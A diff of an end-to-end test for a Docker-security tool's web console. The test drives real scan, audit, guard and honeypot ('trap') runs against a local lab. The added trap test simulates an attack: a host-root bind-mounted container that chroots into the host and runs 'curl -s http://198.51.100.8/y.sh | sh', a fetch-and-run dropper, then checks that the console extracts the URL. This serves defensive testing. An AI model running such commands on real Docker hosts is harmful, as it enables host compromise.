@@ -1,6 +1,7 @@
-// End to end in headless Chromium: the real `portcullis serve` CLI over a store filled by real `portcullis scan`
-// runs against the lab engine plus realistic records of the other front ends; log in, see each page, filter the
-// guard log, open a trap session, export its indicators. Saves a screenshot of each page into docs/screenshots/.
+// End to end in headless Chromium: the real `portcullis serve` CLI over a store filled by real runs of
+// `portcullis scan` (twice), `audit`, `guard` and `trap` (both driven with the docker CLI) against the lab, plus
+// realistic records of the other front ends (and watch) written through the Store API; log in, see each page, filter the guard log, open a trap session,
+// export its indicators. Saves a screenshot of each page into docs/screenshots/.
 import { spawn, type ChildProcess } from 'node:child_process';
 import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -8,7 +9,7 @@ import { join } from 'node:path';
 import { chromium, type BrowserContext, type Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { openStore } from '../../../src/core/store/index.js';
-import { expose, labFromEnv, type Exposure } from '../../lab/index.js';
+import { dockerAsync, expose, labFromEnv, type Exposure } from '../../lab/index.js';
 import { sampleWrites } from '../fleet/samples.js';
 
 const ROOT = new URL('../../../', import.meta.url).pathname;
@@ -17,6 +18,24 @@ const lab = labFromEnv();
 const dir = mkdtempSync(join(tmpdir(), 'pcl-serve-e2e-'));
 const STORE = join(dir, 'store.db');
 const TOKEN = 'e2e-token-' + 'x'.repeat(24);
+
+/** Every long-running child, stopped in afterAll even when beforeAll failed half-way. */
+const daemons: ChildProcess[] = [];
+
+/** Start a long-running CLI command and resolve once its stderr matches `ready`. */
+function daemon(args: string[], ready: RegExp): Promise<{ child: ChildProcess; match: RegExpMatchArray }> {
+  const child = spawn(process.execPath, ['--import', 'tsx', join(ROOT, 'src/cli/main.ts'), ...args], { cwd: ROOT, stdio: ['ignore', 'ignore', 'pipe'] });
+  daemons.push(child);
+  return new Promise((resolve, reject) => {
+    let err = '';
+    child.stderr!.on('data', (c: Buffer) => {
+      err += c.toString();
+      const m = err.match(ready);
+      if (m) resolve({ child, match: m });
+    });
+    child.on('exit', (code) => reject(new Error(`${args[0]} exited ${code}: ${err}`)));
+  });
+}
 
 function cli(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
   return new Promise((resolve) => {
@@ -30,8 +49,7 @@ function cli(args: string[]): Promise<{ code: number | null; stdout: string; std
   });
 }
 
-let exposures: Exposure[] = [];
-let serve: ChildProcess | undefined;
+const exposures: Exposure[] = [];
 let context: BrowserContext;
 let page: Page;
 let base = '';
@@ -48,18 +66,32 @@ beforeAll(async () => {
   const second = await cli(['scan', '127.33.0.1-2', '--timeout', '1000', '-f', 'json']);
   expect(second.code, second.stderr).toBe(1);
 
+  const audit = await cli(['audit', '-H', lab.dockerHost, '-f', 'json', '--store', STORE]);
+  expect(audit.code, audit.stderr).toBe(0);
+  // A real guard in front of the lab engine, writing its decisions to the store: one allowed `docker ps`,
+  // one denied host-root bind.
+  const g = join(dir, 'guard');
+  expect((await cli(['guard', 'init', '--dir', g, '--san', '127.33.0.7', '--address', '127.33.0.7:2376', '--upstream', lab.dockerHost])).code).toBe(0);
+  const cfg = join(g, 'guard.yaml');
+  writeFileSync(cfg, readFileSync(cfg, 'utf8').replace('  file: audit.jsonl', `  file: audit.jsonl\n  store: ${STORE}`)
+    .replace('127.0.0.1:9323', '127.33.0.7:9323'));
+  expect((await cli(['guard', 'cert', 'e2e', '--role', 'ci-runner', '-c', cfg])).code).toBe(0);
+  const guard = await daemon(['guard', '-c', cfg, '--no-events'], /listening on/);
+  const viaGuard = { DOCKER_HOST: 'tcp://127.33.0.7:2376', DOCKER_TLS_VERIFY: '1', DOCKER_CERT_PATH: join(g, 'clients', 'e2e') };
+  expect((await dockerAsync(viaGuard, ['ps'])).code).toBe(0);
+  expect((await dockerAsync(viaGuard, ['run', '--rm', '-v', '/:/mnt', 'alpine:latest', 'true'])).stderr).toContain('denied');
+  await new Promise<void>((resolve) => { guard.child.once('exit', () => resolve()); guard.child.kill('SIGTERM'); });
+
+  // A real attack on the trap: the docker CLI pulls, creates a host-root container and runs a dropper.
+  const trap = await daemon(['trap', '--listen', '127.33.0.5:2375', '--store', STORE, '--sensor', 'e2e-trap'], /posing as Docker/);
+  await dockerAsync({ DOCKER_HOST: 'tcp://127.33.0.5:2375' }, ['run', '--rm', '-v', '/:/mnt', 'alpine:latest', 'chroot', '/mnt', 'sh', '-c',
+    'curl -s http://198.51.100.8/y.sh | sh']);
+  await new Promise<void>((resolve) => { trap.child.once('exit', () => resolve()); trap.child.kill('SIGTERM'); });
+
   writeFileSync(join(dir, 'token'), `${TOKEN}\n`, { mode: 0o600 });
-  serve = spawn(process.execPath, ['--import', 'tsx', join(ROOT, 'src/cli/main.ts'), 'serve', '--listen', '127.0.0.1:0',
-    '--store', STORE, '--token-file', join(dir, 'token'), '--poll-ms', '500'], { cwd: ROOT, stdio: ['ignore', 'ignore', 'pipe'] });
-  base = await new Promise<string>((resolve, reject) => {
-    let err = '';
-    serve!.stderr!.on('data', (c: Buffer) => {
-      err += c.toString();
-      const m = err.match(/console at (http:\/\/[^/\s]+)\//);
-      if (m?.[1]) resolve(m[1]);
-    });
-    serve!.on('exit', (code) => reject(new Error(`serve exited ${code}: ${err}`)));
-  });
+  const started = await daemon(['serve', '--listen', '127.0.0.1:0', '--store', STORE, '--token-file', join(dir, 'token'), '--poll-ms', '500'],
+    /console at (http:\/\/[^/\s]+)\//);
+  base = started.match[1] ?? '';
   // A fresh profile directory (playwright passes it as --user-data-dir).
   context = await chromium.launchPersistentContext(join(dir, 'chromium-profile'), {
     executablePath: '/usr/bin/chromium', acceptDownloads: true, viewport: { width: 1360, height: 900 },
@@ -71,7 +103,8 @@ beforeAll(async () => {
 
 afterAll(async () => {
   await context?.close();
-  serve?.kill('SIGTERM');
+  await Promise.all(daemons.filter((c) => c.exitCode === null && c.signalCode === null)
+    .map((c) => new Promise<void>((resolve) => { c.once('exit', () => resolve()); c.kill('SIGTERM'); })));
   await Promise.all(exposures.map((e) => e.close()));
   rmSync(dir, { recursive: true, force: true });
 });
@@ -122,11 +155,18 @@ describe('portcullis serve in Chromium', () => {
     expect(await rows.count()).toBe(1);
     await expect(rows.first().textContent()).resolves.toContain('client certificate missing');
     await shot('guard-filtered');
+    // The real guard's denial, with its reason.
+    await page.goto(`${base}/guard?verdict=deny&subject=cert%3Ae2e`);
+    await expect(page.textContent('tbody')).resolves.toContain('host path / is outside the allowed prefixes');
+    await page.goto(`${base}/guard?subject=cert%3Ae2e&route=container.list`);
+    await expect(page.textContent('tbody')).resolves.toContain('allowed by role ci-runner');
   });
 
   it('shows audit findings with remediation and watch alerts with evidence and response', async () => {
     await page.goto(`${base}/audit`);
     await expect(page.textContent('main')).resolves.toContain('chmod 660 /var/run/docker.sock');
+    // The real audit of the lab engine ran from this host.
+    expect(await page.locator('section.run').count()).toBe(2);
     await shot('audit');
     await page.goto(`${base}/watch`);
     const text = await page.textContent('main');
@@ -154,6 +194,28 @@ describe('portcullis serve in Chromium', () => {
       expect(existsSync(path)).toBe(true);
       check(readFileSync(path, 'utf8'));
     }
+  });
+
+  it('shows the real trap session the docker CLI made, with its dropper URL extracted', async () => {
+    await page.goto(`${base}/trap`);
+    await page.locator('tr', { hasText: 'e2e-trap' }).first().locator('a.open-session').click();
+    await page.waitForURL(/\/trap\/[^/]+$/);
+    await expect(page.textContent('#timeline')).resolves.toContain('curl -s http://198.51.100.8/y.sh');
+    await expect(page.textContent('#indicators')).resolves.toContain('http://198.51.100.8/y.sh');
+    await shot('trap-session-real');
+    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
+    expect(readFileSync(await download.path(), 'utf8')).toContain('http://198.51.100.8/y.sh');
+  });
+
+  it('tells an open page about new events as they are stored (live updates)', async () => {
+    // The stream's response headers come after it took its cursor: from then on, a stored event is news.
+    await Promise.all([page.waitForResponse((r) => r.url().endsWith('/api/stream')), page.goto(`${base}/`)]);
+    const store = await openStore(STORE);
+    await store.appendEvents([{ eventid: 'trap.session.opened', timestamp: new Date(Date.now() + 60_000).toISOString(), source: 'portcullis',
+      session: 'sess-live', src_ip: '127.0.0.99', sensor: 'e2e' }]);
+    await store.close();
+    await page.waitForSelector('#live[data-count]');
+    await expect(page.textContent('#live')).resolves.toContain('trap.session.opened');
   });
 
   it('loads no asset from anywhere but the console itself', async () => {
